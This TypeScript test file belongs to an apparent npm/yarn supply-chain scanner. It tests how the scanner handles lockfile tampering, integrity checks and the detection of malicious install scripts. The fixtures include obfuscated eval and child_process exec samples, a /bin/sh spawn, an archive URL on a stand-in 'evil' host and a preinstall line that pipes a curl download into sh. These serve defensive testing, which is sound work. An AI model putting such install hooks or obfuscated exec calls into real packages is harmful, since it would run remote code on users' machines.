import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { join } from "node:path";
import { test } from "node:test";
import { createLockfileIntegrityCheck } from "../src/checks/lockfile-integrity.js";
import { DEFAULT_CONFIG } from "../src/config.js";
import { parseLockfile } from "../src/lockfiles/index.js";
import type { Finding, LockedPackage } from "../src/model.js";
import { analyzeTarball } from "../src/tarball/analyze.js";
import { createTarballCache } from "../src/tarball/cache.js";
import { scanTarballs } from "../src/tarball/scan.js";
import { sriOf, startTestRegistry } from "./registry-server.js";
import { buildTarball } from "./tarball-fixture.js";
import { tempDir } from "./temp-dir.js";

const summary = (findings: readonly Finding[]) => findings.map((f) => `${f.checkId} ${f.severity} ${f.packageName}`).sort();

function berryLock(entries: string): string {
  return `__metadata:\n  version: 6\n  cacheKey: 8\n\n${entries}`;
}

function tampering(packages: readonly LockedPackage[]): Finding[] {
  return createLockfileIntegrityCheck()({ packages, config: DEFAULT_CONFIG });
}

test("yarn berry exec: and unknown protocols are not taken for the registry package of that name", () => {
  const lock = parseLockfile(
    "yarn.lock",
    berryLock(
      [
        '"gen@exec:./gen.js":',
        "  version: 0.0.0-exec",
        '  resolution: "gen@exec:./gen.js#./gen.js::hash=1a2b&locator=root%40workspace%3A."',
        "  checksum: 10c0/abc",
        "",
        '"odd@thing:whatever":',
        "  version: 1.0.0",
        '  resolution: "odd@thing:whatever"',
        "  checksum: 10c0/abc",
        "",
        '"lib@ssh://git@example.invalid/lib":',
        "  version: 1.0.0",
        '  resolution: "lib@ssh://git@example.invalid/lib"',
        "  checksum: 10c0/abc",
        "",
      ].join("\n"),
    ),
  );
  assert.deepEqual(
    lock.packages.map((p) => `${p.name} ${p.source}`),
    ["gen exec", "odd unknown", "lib git"],
  );
  // Nothing of them is fetched from the registry, so each must be a finding, checksum or not.
  assert.deepEqual(summary(tampering(lock.packages)), [
    "lockfile-tampering high gen",
    "lockfile-tampering high odd",
    "lockfile-tampering medium lib",
  ]);
});

test("yarn berry: an __archiveUrl is the host checked, and the resolution's version is the one audited", () => {
  const lock = parseLockfile(
    "yarn.lock",
    berryLock(
      [
        '"lodash@npm:^4.17.21":',
        "  version: 4.17.21",
        '  resolution: "lodash@npm:4.17.20::__archiveUrl=https%3A%2F%2Fevil.example.invalid%2Flodash%2F-%2Flodash-4.17.20.tgz"',
        "  checksum: 10c0/abc",
        "",
      ].join("\n"),
    ),
  );
  const [pkg] = lock.packages;
  assert.equal(pkg?.version, "4.17.20");
  assert.equal(pkg?.resolved, "https://evil.example.invalid/lodash/-/lodash-4.17.20.tgz");
  const findings = tampering(lock.packages);
  assert.deepEqual(summary(findings), ["lockfile-tampering high lodash"]);
  assert.match(findings[0]?.message ?? "", /evil\.example\.invalid/);
});

test("a sha1-only integrity is verified against the tarball, and any hash of the strongest algorithm may match", async () => {
  const tarball = await buildTarball({ "package.json": JSON.stringify({ name: "foo", version: "1.0.0" }), "index.js": "1;\n" });
  const registry = await startTestRegistry([{ name: "foo", version: "1.0.0", tarball, publishedAt: new Date() }]);
  const sha1 = (bytes: Uint8Array | string) => `sha1-${createHash("sha1").update(bytes).digest("base64")}`;
  const scan = (integrity: string) =>
    scanTarballs([{ name: "foo", version: "1.0.0", source: "registry", integrity, location: { file: "package-lock.json" } }], {
      registry: registry.url,
      cache: createTarballCache(join(tempDir(), "cache")),
    });
  try {
    const wrong = await scan(sha1("other bytes"));
    assert.deepEqual(summary(wrong.findings), ["integrity-mismatch critical foo"]);
    assert.equal(wrong.analyses.size, 0, "bytes npm would refuse are not analyzed as if they were the package");
    const right = await scan(sha1(tarball));
    assert.deepEqual(right.findings, []);
    assert.equal(right.analyses.size, 1);
    // ssri (npm) accepts the bytes when any sha512 listed matches.
    const either = await scan(`${sriOf(new Uint8Array([1]))} ${sriOf(tarball)}`);
    assert.deepEqual(either.findings, []);
  } finally {
    await registry.close();
  }
});

function verdictOf(code: string, scripts: Record<string, string> = { postinstall: "node index.js" }) {
  return analyzeTarball({
    files: [
      { path: "package.json", text: JSON.stringify({ name: "x", version: "1.0.0", scripts }), truncated: false },
      { path: "index.js", text: code, truncated: false },
    ],
    unsafePaths: [],
    totalBytes: 0,
    truncated: false,
  });
}

test("code hidden as char codes, hex escapes or a split module name is seen as obfuscation", () => {
  const hidden = [
    "eval(String.fromCharCode(114,101,113,117,105,114,101));",
    "new Function(String.fromCharCode(99,111,110,115,111,108,101))();",
    'eval("\\x72\\x65\\x71\\x75\\x69\\x72\\x65\\x28\\x27\\x63\\x68");',
    "const cp = require('child_' + 'process');",
  ];
  for (const code of hidden)
    assert.ok(
      verdictOf(code).signals.some((s) => s.id === "eval-decoded"),
      code,
    );
  // A decoded string handed to a shell, and a spawn through process.binding, reach processes unseen.
  const decodedShell = verdictOf("require('child_process').exec(Buffer.from('aWQ=', 'base64').toString());");
  assert.equal(decodedShell.verdict?.severity, "critical");
  const binding = verdictOf("process.binding('spawn_sync').spawn({ file: '/bin/sh' });");
  assert.ok(binding.signals.some((s) => s.id === "exec"));
});

test("an install script piping a download into a shell is high, enough to fail the default gate", () => {
  const piped = verdictOf("", { preinstall: "curl -s https://example.invalid/i.sh | sh" });
  assert.equal(piped.verdict?.severity, "high");
  // A download saved and run (native binaries do this) stays a medium for review.
  const saved = verdictOf("", { postinstall: "curl -sLo bin/tool https://example.invalid/tool && chmod +x bin/tool" });
  assert.equal(saved.verdict?.severity, "medium");
});
